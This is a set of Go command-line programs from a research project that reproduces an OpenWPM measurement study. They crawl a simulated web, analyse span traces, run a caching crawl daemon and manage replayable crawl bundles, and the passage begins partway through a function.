	for _, run := range []struct {
		name   string
		events []telemetry.SpanEvent
	}{{"vanilla", r.VanillaTrace}, {"hardened", r.HardenedTrace}} {
		for _, ev := range run.events {
			if err := enc.Encode(struct {
				Run string `json:"run"`
				telemetry.SpanEvent
			}{run.name, ev}); err != nil {
				f.Close()
				return err
			}
		}
	}
	return f.Close()
}

func main() {
	sites := flag.Int("sites", 500, "number of ranked sites to crawl")
	workers := flag.Int("workers", 0, "parallel crawl workers per run (0 = one per CPU, clamped to the site count)")
	seed := flag.Int64("seed", 42, "world seed")
	faultSeed := flag.Int64("fault-seed", 1, "fault injector seed")
	heavy := flag.Bool("heavy", false, "use the heavy (4x) fault profile")
	telemetryPath := flag.String("telemetry", "", "write both runs' metrics snapshots (JSON, keyed vanilla/hardened) to this file")
	tracePath := flag.String("trace", "", "write both runs' span traces as JSON lines to this file")
	flag.Parse()

	profile := faults.DefaultProfile()
	if *heavy {
		profile = faults.HeavyProfile()
	}

	// SIGINT/SIGTERM stop the in-flight crawl at its next site boundary; a
	// partial paired comparison is meaningless, so the process reports the
	// interruption and exits with a distinct status instead of printing
	// half-valid tables.
	stop := signal.Notify(func(s os.Signal) {
		fmt.Fprintf(os.Stderr, "\n%v: stopping at the next site boundary...\n", s)
	})

	start := time.Now()
	fmt.Fprintf(os.Stderr, "crawling %d sites twice (vanilla + hardened) under fault seed %d...\n", *sites, *faultSeed)
	r := experiments.RunReliability(*seed, *faultSeed, experiments.ReliabilityOptions{
		NumSites:  *sites,
		Workers:   *workers,
		Profile:   profile,
		Telemetry: *telemetryPath != "" || *tracePath != "",
		Stop:      stop,
	})
	if r.Interrupted {
		fmt.Fprintln(os.Stderr, "interrupted: the vanilla/hardened comparison needs both full runs — rerun to completion")
		os.Exit(signal.ExitInterrupted)
	}
	fmt.Fprintf(os.Stderr, "done in %s\n\n", time.Since(start).Round(time.Second))

	if *telemetryPath != "" {
		if err := writeSnapshots(r, *telemetryPath); err != nil {
			fmt.Fprintf(os.Stderr, "write telemetry: %v\n", err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "wrote metrics snapshots to %s\n", *telemetryPath)
	}
	if *tracePath != "" {
		if err := writeTraces(r, *tracePath); err != nil {
			fmt.Fprintf(os.Stderr, "write trace: %v\n", err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "wrote span traces to %s\n", *tracePath)
	}

	fmt.Println(experiments.TableReliability(r))
	fmt.Println("vanilla " + r.Vanilla.String())
	fmt.Println("hardened " + r.Hardened.String())
}
