// Command wpmtrace analyses flight-recorder trace files — the JSON-lines span
// streams emitted by wpmscan -trace, persisted by wpmd as job artifacts, and
// served at GET /v1/jobs/{id}/trace.
//
//	wpmtrace tree       crawl.trace.jsonl          span tree, indented
//	wpmtrace critical   crawl.trace.jsonl          critical path from the longest root
//	wpmtrace top        -n 10 -name visit FILE     slowest spans, longest first
//	wpmtrace hist       -name visit FILE           per-name duration histograms
//	wpmtrace stragglers -threshold 1.5 FILE        shards slower than threshold x median
//	wpmtrace summary    FILE                       event/span totals per name
//	wpmtrace diff       record.jsonl replay.jsonl  structural diff (empty for deterministic replays)
//
// FILE may be "-" (or omitted) to read stdin. diff exits nonzero when the
// traces differ, like diff(1).
package main

import (
	"flag"
	"fmt"
	"io"
	"os"

	"gullible/internal/telemetry"
	"gullible/internal/trace"
)

func usage() {
	fmt.Fprintln(os.Stderr, "usage: wpmtrace <tree|critical|top|hist|stragglers|summary|diff> [flags] [file]")
	os.Exit(2)
}

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	var err error
	switch os.Args[1] {
	case "tree":
		err = cmdTree(os.Args[2:])
	case "critical":
		err = withTree(os.Args[2:], "critical", func(t *trace.Tree, _ *flag.FlagSet) {
			t.RenderCriticalPath(os.Stdout)
		})
	case "top":
		err = cmdTop(os.Args[2:])
	case "hist":
		err = cmdHist(os.Args[2:])
	case "stragglers":
		err = cmdStragglers(os.Args[2:])
	case "summary":
		err = withTree(os.Args[2:], "summary", func(t *trace.Tree, _ *flag.FlagSet) {
			t.RenderSummary(os.Stdout)
		})
	case "diff":
		err = cmdDiff(os.Args[2:])
	default:
		usage()
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "wpmtrace %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
}

// readEvents loads a trace from the flag set's positional argument, which
// defaults to stdin ("-" also means stdin).
func readEvents(fs *flag.FlagSet) ([]telemetry.SpanEvent, error) {
	path := fs.Arg(0)
	var r io.Reader = os.Stdin
	if path != "" && path != "-" {
		f, err := os.Open(path)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		r = f
	}
	return telemetry.ReadTrace(r)
}

// withTree parses flags, builds the tree and hands it to render.
func withTree(args []string, name string, render func(*trace.Tree, *flag.FlagSet)) error {
	fs := flag.NewFlagSet(name, flag.ExitOnError)
	fs.Parse(args)
	events, err := readEvents(fs)
	if err != nil {
		return err
	}
	render(trace.Build(events), fs)
	return nil
}

func cmdTree(args []string) error {
	fs := flag.NewFlagSet("tree", flag.ExitOnError)
	depth := fs.Int("depth", 0, "maximum tree depth to render (0 = unlimited)")
	fs.Parse(args)
	events, err := readEvents(fs)
	if err != nil {
		return err
	}
	trace.Build(events).RenderTree(os.Stdout, *depth)
	return nil
}

func cmdTop(args []string) error {
	fs := flag.NewFlagSet("top", flag.ExitOnError)
	n := fs.Int("n", 10, "how many spans to list")
	name := fs.String("name", "", "restrict to spans with this name (empty = all)")
	fs.Parse(args)
	events, err := readEvents(fs)
	if err != nil {
		return err
	}
	trace.Build(events).RenderSlowest(os.Stdout, *name, *n)
	return nil
}

func cmdHist(args []string) error {
	fs := flag.NewFlagSet("hist", flag.ExitOnError)
	name := fs.String("name", "", "restrict to spans with this name (empty = all)")
	fs.Parse(args)
	events, err := readEvents(fs)
	if err != nil {
		return err
	}
	trace.Build(events).RenderHistograms(os.Stdout, *name)
	return nil
}

func cmdStragglers(args []string) error {
	fs := flag.NewFlagSet("stragglers", flag.ExitOnError)
	threshold := fs.Float64("threshold", 1.5, "flag shards slower than this multiple of the median")
	fs.Parse(args)
	events, err := readEvents(fs)
	if err != nil {
		return err
	}
	trace.Build(events).RenderStragglers(os.Stdout, *threshold)
	return nil
}

func cmdDiff(args []string) error {
	fs := flag.NewFlagSet("diff", flag.ExitOnError)
	fs.Parse(args)
	if fs.NArg() != 2 {
		return fmt.Errorf("diff takes exactly two trace files")
	}
	read := func(path string) ([]telemetry.SpanEvent, error) {
		f, err := os.Open(path)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		return telemetry.ReadTrace(f)
	}
	a, err := read(fs.Arg(0))
	if err != nil {
		return err
	}
	b, err := read(fs.Arg(1))
	if err != nil {
		return err
	}
	deltas := trace.Diff(a, b)
	for _, d := range deltas {
		fmt.Println(d)
	}
	fmt.Printf("%d deltas across %d/%d events\n", len(deltas), len(a), len(b))
	if len(deltas) > 0 {
		os.Exit(1) // diff convention: nonzero when the inputs differ
	}
	return nil
}
