// Command wpmfingerprint measures OpenWPM's fingerprint surface (Sec. 3 of
// the paper): it prints Tables 2–4, the prototype-pollution illustration of
// Figure 2, and the Sec. 3.3 detector validation.
package main

import (
	"flag"
	"fmt"

	"gullible/internal/experiments"
)

func main() {
	ffVersion := flag.Int("firefox", 90, "Firefox major version to simulate")
	flag.Parse()

	fmt.Println(experiments.Table2(*ffVersion))
	fmt.Println(experiments.Table3())
	fmt.Println(experiments.Table4())
	fmt.Println(experiments.Figure2())
	fmt.Println(experiments.DetectorValidation())
}
