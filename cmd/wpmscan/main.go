// Command wpmscan reproduces the Sec. 4 measurement: a vanilla OpenWPM
// client crawls the ranked synthetic web (front page + up to three
// subpages), and static + dynamic analyses identify bot detectors. It prints
// Tables 5–7 and 11–13 and Figures 3–5.
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"gullible/internal/experiments"
	"gullible/internal/websim"
)

func main() {
	sites := flag.Int("sites", 100000, "number of ranked sites to scan")
	subpages := flag.Int("subpages", 3, "maximum subpages per site")
	seed := flag.Int64("seed", 42, "world seed")
	flag.Parse()

	world := websim.New(websim.Options{Seed: *seed, NumSites: *sites})
	start := time.Now()
	fmt.Fprintf(os.Stderr, "scanning %d sites (subpages ≤ %d)...\n", *sites, *subpages)
	r := experiments.RunScan(world, *sites, *subpages, func(done, total int) {
		fmt.Fprintf(os.Stderr, "  %d/%d sites (%.0fs elapsed)\n", done, total, time.Since(start).Seconds())
	})
	fmt.Fprintf(os.Stderr, "scan finished in %s\n\n", time.Since(start).Round(time.Second))

	fmt.Println(experiments.Table5(r))
	fmt.Println(experiments.Table6(r))
	fmt.Println(experiments.Table7(r))
	fmt.Println(experiments.Table11(r))
	fmt.Println(experiments.Table12(r))
	fmt.Println(experiments.Table13(r))
	fmt.Println(experiments.Figure3(r))
	fmt.Println(experiments.Figure4(r))
	fmt.Println(experiments.Figure5(r))
}
