// Command wpmscan reproduces the Sec. 4 measurement: a vanilla OpenWPM
// client crawls the ranked synthetic web (front page + up to three
// subpages), and static + dynamic analyses identify bot detectors. It prints
// Tables 5–7 and 11–13 and Figures 3–5.
//
// The -faults flag injects a seeded fault profile into the crawl and the
// -max-visit-s flag arms the per-visit watchdog, turning the scan into a
// reliability experiment; the crawl report is printed to stderr.
//
// The -workers flag shards the crawl across parallel workers (0 = one per
// CPU, clamped to the site count); merged storage, report and bundle bytes
// are identical at any worker count.
//
// The -record-bundle flag archives the scan into an execution bundle file —
// each worker records its shard and the scheduler merges the shard archives
// into one sealed bundle, so recording runs at full parallelism — and
// -replay-bundle re-runs the scan offline from such a file, with -miss
// selecting the policy for requests the bundle never saw.
//
// The -telemetry flag writes the scan's canonical-JSON metrics snapshot to a
// file and switches the live progress line to registry-derived counters
// (restarts, watchdog fires, faults, dropped writes); -trace writes the
// flight recorder's span events as JSON lines. Either flag enables
// instrumentation.
//
// The -agreement flag appends the per-rule static-vs-dynamic tamper
// agreement table: AST findings from the persisted javascript_tamper table
// cross-checked against the JS instrumentation log.
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"
	"time"

	"gullible/internal/bundle"
	"gullible/internal/daemon/signal"
	"gullible/internal/experiments"
	"gullible/internal/faults"
	"gullible/internal/sched"
	"gullible/internal/telemetry"
	"gullible/internal/wal"
	"gullible/internal/websim"
)

// writeTelemetry dumps the metrics snapshot and/or the scheduler-merged span
// trace to files. The trace comes from the scan result, not the shared
// registry: each shard records spans into its own flight recorder and the
// scheduler merges them with globally unique ids (analyse with wpmtrace).
func writeTelemetry(tel *telemetry.Telemetry, events []telemetry.SpanEvent, metricsPath, tracePath string) {
	if metricsPath != "" {
		data, err := tel.Snapshot().CanonicalJSON()
		if err == nil {
			err = os.WriteFile(metricsPath, append(data, '\n'), 0o644)
		}
		if err != nil {
			fmt.Fprintf(os.Stderr, "write telemetry: %v\n", err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "wrote metrics snapshot to %s\n", metricsPath)
	}
	if tracePath != "" {
		f, err := os.Create(tracePath)
		if err == nil {
			err = telemetry.WriteTrace(f, events)
			if cerr := f.Close(); err == nil {
				err = cerr
			}
		}
		if err != nil {
			fmt.Fprintf(os.Stderr, "write trace: %v\n", err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "wrote span trace to %s (%d events)\n", tracePath, len(events))
	}
}

func main() {
	sites := flag.Int("sites", 100000, "number of ranked sites to scan")
	subpages := flag.Int("subpages", 3, "maximum subpages per site")
	workers := flag.Int("workers", 0, "parallel crawl workers (0 = one per CPU, clamped to the site count)")
	seed := flag.Int64("seed", 42, "world seed")
	faultMode := flag.String("faults", "off", "fault profile to inject: off|default|heavy")
	faultSeed := flag.Int64("fault-seed", 1, "fault injector seed")
	maxVisitS := flag.Float64("max-visit-s", 0, "per-visit virtual watchdog budget in seconds (0 = off)")
	recordPath := flag.String("record-bundle", "", "archive the scan into an execution bundle at this path")
	replayPath := flag.String("replay-bundle", "", "replay the scan offline from this execution bundle")
	missMode := flag.String("miss", "fail", "replay miss policy: fail|passthrough|synthesize-404")
	telemetryPath := flag.String("telemetry", "", "write the canonical-JSON metrics snapshot to this file (enables instrumentation)")
	tracePath := flag.String("trace", "", "write flight-recorder span events as JSON lines to this file (enables instrumentation)")
	agreement := flag.Bool("agreement", false, "also print the per-rule static-vs-dynamic tamper agreement table")
	store := flag.String("store", "memory", "storage backend: memory|wal (wal appends every record to a crash-safe per-shard log)")
	walDir := flag.String("wal-dir", "wpmscan-wal", "directory for the per-shard WAL logs when -store wal")
	fsync := flag.String("fsync", "checkpoint", "WAL fsync policy: off|checkpoint|always")
	recoverRun := flag.Bool("recover", false, "rebuild the crawl from the WALs under -wal-dir (after a crash or SIGINT) and resume it")
	vmMode := flag.String("vm", "on", "script engine: on (bytecode VM) | off (tree-walking interpreter); artifacts are byte-identical either way")
	flag.Parse()

	opts := experiments.ScanOptions{MaxSubpages: *subpages, Workers: *workers, MaxVisitSeconds: *maxVisitS, FaultSeed: *faultSeed}
	switch *vmMode {
	case "on":
	case "off":
		opts.DisableVM = true
	default:
		fmt.Fprintln(os.Stderr, "-vm must be on or off")
		os.Exit(2)
	}
	var tel *telemetry.Telemetry
	if *telemetryPath != "" || *tracePath != "" {
		tel = telemetry.New()
		opts.Telemetry = tel
	}

	syncPolicy, err := wal.ParseSyncPolicy(*fsync)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	walOpts := wal.Options{Sync: syncPolicy, Telemetry: tel}
	if *recoverRun && *store != "wal" {
		fmt.Fprintln(os.Stderr, "-recover requires -store wal")
		os.Exit(2)
	}
	if *recordPath != "" {
		opts.RecordBundle = true
		opts.BundleMeta = map[string]string{
			"tool": "wpmscan", "worldSeed": fmt.Sprint(*seed), "faults": *faultMode,
		}
	}
	if *replayPath != "" {
		b, err := bundle.ReadFile(*replayPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "load bundle: %v\n", err)
			os.Exit(1)
		}
		policy, err := bundle.ParseMissPolicy(*missMode)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		opts.ReplayBundle = b
		opts.MissPolicy = policy
	}
	switch *faultMode {
	case "off":
	case "default":
		p := faults.DefaultProfile()
		opts.FaultProfile = &p
	case "heavy":
		p := faults.HeavyProfile()
		opts.FaultProfile = &p
	default:
		fmt.Fprintf(os.Stderr, "unknown -faults mode %q (want off|default|heavy)\n", *faultMode)
		os.Exit(2)
	}

	switch *store {
	case "memory":
	case "wal":
		if *recoverRun {
			fss, err := sched.ListShardFSs(*walDir)
			if err != nil {
				fmt.Fprintf(os.Stderr, "recover: %v\n", err)
				os.Exit(1)
			}
			cp, recoveries, err := sched.Recover(fss, walOpts)
			if err != nil {
				fmt.Fprintf(os.Stderr, "recover: %v\n", err)
				os.Exit(1)
			}
			for _, rec := range recoveries {
				if s := rec.Stats.Scan; len(s.TornSegments) > 0 {
					fmt.Fprintf(os.Stderr, "shard %d: torn tail truncated (%d bytes discarded, %d records replayed, %d discarded past the last checkpoint)\n",
						rec.Meta.Index, s.TruncatedBytes, rec.Stats.Applied, rec.Stats.Discarded)
				}
			}
			fmt.Fprintf(os.Stderr, "recovered %d/%d sites from %s\n", cp.Done(), *sites, *walDir)
			opts.Resume = cp
			opts.Workers = cp.Workers
			// shards whose log lost even its metadata record restart from
			// scratch; the factory gives them a fresh durable log (recovered
			// shards keep their continuation backends and never hit it)
			opts.Backend = sched.WALBackend(sched.ShardDirFS(*walDir), cp.Workers, opts.RecordBundle, opts.BundleMeta, walOpts)
		} else {
			eff := sched.Workers(*workers, *sites)
			opts.Backend = sched.WALBackend(sched.ShardDirFS(*walDir), eff, opts.RecordBundle, opts.BundleMeta, walOpts)
		}
	default:
		fmt.Fprintf(os.Stderr, "unknown -store %q (want memory or wal)\n", *store)
		os.Exit(2)
	}

	// SIGINT/SIGTERM stop the crawl at the next site boundary: the WAL (when
	// on) is flushed and sealed behind a final per-site checkpoint, and the
	// process exits with a distinct status so wrappers know to -recover.
	opts.Stop = signal.Notify(func(s os.Signal) {
		fmt.Fprintf(os.Stderr, "\n%v: stopping at the next site boundary...\n", s)
	})

	world := websim.New(websim.Options{Seed: *seed, NumSites: *sites})
	start := time.Now()
	fmt.Fprintf(os.Stderr, "scanning %d sites (subpages ≤ %d, faults %s)...\n", *sites, *subpages, *faultMode)
	r, err := experiments.RunScanObserved(world, *sites, opts, experiments.ProgressFunc(func(done, total int) {
		if tel.Enabled() {
			// Live progress straight from the registry: the same counters the
			// snapshot will report, read mid-crawl.
			s := tel.Snapshot()
			fmt.Fprintf(os.Stderr, "  %d/%d sites — %d restarts, %d watchdog fires, %d faults, %d dropped writes (%.0fs elapsed)\n",
				done, total,
				s.Total("crawl_restarts_total"), s.Total("browser_watchdog_fires_total"),
				s.Total("faults_injected_total"), s.Total("storage_drops_total"),
				time.Since(start).Seconds())
			return
		}
		fmt.Fprintf(os.Stderr, "  %d/%d sites (%.0fs elapsed)\n", done, total, time.Since(start).Seconds())
	}))
	if err != nil {
		fmt.Fprintf(os.Stderr, "scan: %v\n", err)
		os.Exit(1)
	}
	if r.Interrupted {
		done := 0
		if r.Checkpoint != nil {
			done = r.Checkpoint.Done()
			if cerr := r.Checkpoint.CloseBackends(); cerr != nil {
				fmt.Fprintf(os.Stderr, "seal WAL: %v\n", cerr)
			}
		}
		if tel.Enabled() {
			writeTelemetry(tel, r.Trace, *telemetryPath, *tracePath)
		}
		if *store == "wal" {
			fmt.Fprintf(os.Stderr, "interrupted at %d/%d sites; WAL sealed under %s — resume with -store wal -recover\n", done, *sites, *walDir)
		} else {
			fmt.Fprintf(os.Stderr, "interrupted at %d/%d sites; progress was not persisted (run with -store wal for a crash-safe, resumable log)\n", done, *sites)
		}
		os.Exit(signal.ExitInterrupted)
	}
	if *store == "wal" && r.Checkpoint != nil {
		if cerr := r.Checkpoint.CloseBackends(); cerr != nil {
			fmt.Fprintf(os.Stderr, "seal WAL: %v\n", cerr)
			os.Exit(1)
		}
	}
	fmt.Fprintf(os.Stderr, "scan finished in %s (%d workers)\n\n", time.Since(start).Round(time.Second), r.Workers)
	if tel.Enabled() {
		writeTelemetry(tel, r.Trace, *telemetryPath, *tracePath)
	}
	if r.Report != nil {
		fmt.Fprint(os.Stderr, r.Report.String())
		if len(r.FaultKinds) > 0 {
			kinds := make([]string, 0, len(r.FaultKinds))
			for k := range r.FaultKinds {
				kinds = append(kinds, k)
			}
			sort.Strings(kinds)
			fmt.Fprint(os.Stderr, "injected faults:")
			for _, k := range kinds {
				fmt.Fprintf(os.Stderr, " %s=%d", k, r.FaultKinds[k])
			}
			fmt.Fprintln(os.Stderr)
		}
		fmt.Fprintln(os.Stderr)
	}
	if *recordPath != "" {
		if r.Bundle == nil {
			fmt.Fprintln(os.Stderr, "scan produced no bundle")
			os.Exit(1)
		}
		if err := r.Bundle.WriteFile(*recordPath); err != nil {
			fmt.Fprintf(os.Stderr, "write bundle: %v\n", err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "%s\nwrote %s (digest %s)\n\n", r.Bundle.Stats(), *recordPath, r.Bundle.Digest)
	}

	fmt.Println(experiments.Table5(r))
	fmt.Println(experiments.Table6(r))
	fmt.Println(experiments.Table7(r))
	fmt.Println(experiments.Table11(r))
	fmt.Println(experiments.Table12(r))
	fmt.Println(experiments.Table13(r))
	fmt.Println(experiments.Figure3(r))
	fmt.Println(experiments.Figure4(r))
	fmt.Println(experiments.Figure5(r))
	if *agreement {
		fmt.Println(experiments.TableAgreement(experiments.AgreementFromScan(r)))
	}
}
