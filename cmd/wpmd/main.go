// Command wpmd is the crawl-as-a-service daemon: a long-running HTTP server
// that accepts crawl, replay, diff and agreement jobs, executes them through
// the deterministic crawl substrate, and seals every artifact into a
// content-addressed disk cache. Because a seeded crawl is a pure function of
// (site list, configuration, seed), identical requests are served from the
// cache with bytes identical to a cold run — the expensive path runs once
// per distinct request, not once per request.
//
// API:
//
//	POST /v1/jobs                submit a JSON job spec; 200 on a cache hit,
//	                             202 on admission, 429 + Retry-After under
//	                             overload (bounded queue, per-tenant budgets
//	                             via the X-Tenant header)
//	GET  /v1/jobs/{id}           job status
//	GET  /v1/jobs/{id}/artifact  sealed artifact bytes
//	GET  /v1/jobs/{id}/trace     the job's span trace, JSON lines — pipe
//	                             into wpmtrace for analysis
//	GET  /v1/jobs/{id}/events    live job events (SSE): state transitions,
//	                             crawl progress, spans (curl -N to follow)
//	GET  /healthz                liveness (503 while draining)
//	GET  /metrics                telemetry snapshot plus runtime gauges,
//	                             Prometheus text exposition (?format=json
//	                             for the canonical document)
//	GET  /debug/pprof/*          profiling endpoints, only with -pprof
//
// SIGTERM/SIGINT drain the daemon: admission stops, in-flight crawl jobs
// checkpoint at the next site boundary and seal their WALs, queued jobs stay
// persisted, and the process exits with status 3 if anything was interrupted
// mid-run. A restarted wpmd over the same -dir recovers interrupted jobs
// from their logs and finishes them digest-identical to uninterrupted runs.
//
// The -smoke flag runs a self-contained start → submit → hit → drain check
// against an ephemeral port and exits; CI uses it as the daemon's end-to-end
// gate.
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"gullible/internal/daemon"
	"gullible/internal/daemon/signal"
	"gullible/internal/telemetry"
	"gullible/internal/wal"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8347", "listen address")
	dir := flag.String("dir", "wpmd-state", "state directory (cache, queue, job WALs)")
	cacheBytes := flag.Int64("cache-bytes", 256<<20, "artifact cache byte budget (negative = unbudgeted)")
	queueDepth := flag.Int("queue", 64, "job queue depth (negative = unbounded)")
	tenantBudget := flag.Int64("tenant-budget", 50000, "per-tenant in-flight cost budget in sites (negative = unlimited)")
	executors := flag.Int("workers", 2, "concurrent job executors")
	crawlWorkers := flag.Int("crawl-workers", 1, "sched workers per crawl job (fixed across restarts: WAL recovery needs a stable shard layout)")
	fsync := flag.String("fsync", "checkpoint", "WAL fsync policy for crawl jobs: off|checkpoint|always")
	retryAfter := flag.Int("retry-after", 5, "Retry-After seconds advertised on 429 responses")
	pprofFlag := flag.Bool("pprof", false, "expose /debug/pprof/* (profiling leaks internals; keep off on shared listeners)")
	smoke := flag.Bool("smoke", false, "run the start→submit→hit→drain self-check on an ephemeral port and exit")
	flag.Parse()

	syncPolicy, err := wal.ParseSyncPolicy(*fsync)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	tel := telemetry.New()
	d, err := daemon.Open(daemon.Config{
		Dir:               *dir,
		CacheBytes:        *cacheBytes,
		QueueDepth:        *queueDepth,
		TenantBudget:      *tenantBudget,
		Executors:         *executors,
		CrawlWorkers:      *crawlWorkers,
		Fsync:             syncPolicy,
		RetryAfterSeconds: *retryAfter,
		Telemetry:         tel,
		EnablePprof:       *pprofFlag,
		// the daemon package itself is wall-clock free (crawl time is
		// virtual); the binary injects the clock for HTTP latency histograms
		NowNanos: func() int64 { return time.Now().UnixNano() },
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}

	listenAddr := *addr
	if *smoke {
		listenAddr = "127.0.0.1:0" // ephemeral: the smoke check runs anywhere
	}
	ln, err := net.Listen("tcp", listenAddr)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	srv := &http.Server{
		Handler:           daemon.Handler(d),
		ReadTimeout:       30 * time.Second,
		ReadHeaderTimeout: 10 * time.Second,
		WriteTimeout:      5 * time.Minute, // artifact downloads can be large
		IdleTimeout:       2 * time.Minute,
	}
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "wpmd listening on http://%s (state under %s)\n", ln.Addr(), *dir)

	if *smoke {
		err := runSmoke(fmt.Sprintf("http://%s", ln.Addr()))
		d.Drain()
		_ = srv.Close()
		if err != nil {
			fmt.Fprintf(os.Stderr, "smoke: %v\n", err)
			os.Exit(1)
		}
		fmt.Fprintln(os.Stderr, "smoke: ok")
		return
	}

	// the shared interrupt contract: first signal drains, second kills
	stop := signal.Notify(func(s os.Signal) {
		fmt.Fprintf(os.Stderr, "\n%v: draining — in-flight jobs checkpoint at the next site boundary...\n", s)
	})
	select {
	case <-stop:
	case err := <-serveErr:
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	interrupted := d.Drain()
	_ = srv.Close()
	if interrupted > 0 {
		fmt.Fprintf(os.Stderr, "drained: %d job(s) checkpointed mid-run; restart wpmd with the same -dir to resume them\n", interrupted)
		os.Exit(signal.ExitInterrupted)
	}
	fmt.Fprintln(os.Stderr, "drained cleanly")
}

// runSmoke drives the daemon through its own HTTP surface: submit a small
// crawl job, wait for the artifact, resubmit and demand a digest-identical
// cache hit, and check the hit shows up in /metrics.
func runSmoke(base string) error {
	client := &http.Client{Timeout: 60 * time.Second}
	spec := `{"kind":"crawl","numSites":5,"maxSubpages":1}`

	var first daemon.JobStatus
	if err := postJob(client, base, spec, http.StatusAccepted, &first); err != nil {
		return fmt.Errorf("submit: %w", err)
	}
	deadline := time.Now().Add(120 * time.Second)
	for first.State != daemon.JobDone {
		if time.Now().After(deadline) {
			return fmt.Errorf("job %s stuck in state %s", first.ID, first.State)
		}
		time.Sleep(50 * time.Millisecond)
		if err := getJSON(client, base+"/v1/jobs/"+first.ID, &first); err != nil {
			return fmt.Errorf("poll: %w", err)
		}
		if first.State == daemon.JobFailed {
			return fmt.Errorf("job failed: %s", first.Error)
		}
	}

	resp, err := client.Get(base + "/v1/jobs/" + first.ID + "/artifact")
	if err != nil {
		return err
	}
	artifact, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		return fmt.Errorf("artifact: status %d, %v", resp.StatusCode, err)
	}
	if got := resp.Header.Get("X-Artifact-Digest"); got != first.Digest {
		return fmt.Errorf("artifact digest header %s != job digest %s", got, first.Digest)
	}
	if len(artifact) == 0 {
		return fmt.Errorf("artifact is empty")
	}

	// the crawl's span trace sealed next to the bundle
	resp, err = client.Get(base + "/v1/jobs/" + first.ID + "/trace")
	if err != nil {
		return err
	}
	traceBody, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		return fmt.Errorf("trace: status %d, %v", resp.StatusCode, err)
	}
	if !bytes.Contains(traceBody, []byte(`"name":"job"`)) || !bytes.Contains(traceBody, []byte(`"name":"visit"`)) {
		return fmt.Errorf("trace missing job/visit spans:\n%.200s", traceBody)
	}

	// the identical spec, resubmitted: answered from the cache, same digest
	var second daemon.JobStatus
	if err := postJob(client, base, spec, http.StatusOK, &second); err != nil {
		return fmt.Errorf("resubmit: %w", err)
	}
	if !second.Cached || second.Digest != first.Digest {
		return fmt.Errorf("resubmit not a digest-identical cache hit: %+v", second)
	}

	resp, err = client.Get(base + "/metrics")
	if err != nil {
		return err
	}
	metrics, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil {
		return err
	}
	if !bytes.Contains(metrics, []byte("daemon_cache_hits_total 1")) {
		return fmt.Errorf("metrics missing the cache hit:\n%s", metrics)
	}
	return nil
}

// postJob submits a job spec and decodes the status, demanding wantCode.
func postJob(client *http.Client, base, spec string, wantCode int, out *daemon.JobStatus) error {
	resp, err := client.Post(base+"/v1/jobs", "application/json", strings.NewReader(spec))
	if err != nil {
		return err
	}
	body, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil {
		return err
	}
	if resp.StatusCode != wantCode {
		return fmt.Errorf("status %d (want %d): %s", resp.StatusCode, wantCode, body)
	}
	return json.Unmarshal(body, out)
}

// getJSON decodes a JSON GET response.
func getJSON(client *http.Client, url string, out any) error {
	resp, err := client.Get(url)
	if err != nil {
		return err
	}
	body, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("status %d: %s", resp.StatusCode, body)
	}
	return json.Unmarshal(body, out)
}
