// Command wpmbundle manages execution bundles — self-contained, replayable
// archives of a crawl (internal/bundle).
//
//	wpmbundle record -sites 50 -out crawl.bundle.json
//	wpmbundle replay -in crawl.bundle.json -variant stealth -out replay.bundle.json
//	wpmbundle diff   -a crawl.bundle.json -b replay.bundle.json
//	wpmbundle verify -in crawl.bundle.json
//	wpmbundle merge  -out merged.bundle.json shard0.json shard1.json ...
//
// record runs a crawl of the synthetic web (optionally under seeded fault
// injection) and archives it; replay re-executes a bundle offline, possibly
// under a variant observer configuration; diff compares two bundles per
// visit; verify checks a bundle's integrity digest and content pool; merge
// combines per-shard bundles (in shard order) into one sealed archive.
package main

import (
	"flag"
	"fmt"
	"os"

	"gullible/internal/bundle"
	"gullible/internal/experiments"
	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/websim"
)

func usage() {
	fmt.Fprintln(os.Stderr, "usage: wpmbundle <record|replay|diff|verify|merge> [flags]")
	os.Exit(2)
}

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	var err error
	switch os.Args[1] {
	case "record":
		err = cmdRecord(os.Args[2:])
	case "replay":
		err = cmdReplay(os.Args[2:])
	case "diff":
		err = cmdDiff(os.Args[2:])
	case "verify":
		err = cmdVerify(os.Args[2:])
	case "merge":
		err = cmdMerge(os.Args[2:])
	default:
		usage()
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "wpmbundle %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
}

func cmdRecord(args []string) error {
	fs := flag.NewFlagSet("record", flag.ExitOnError)
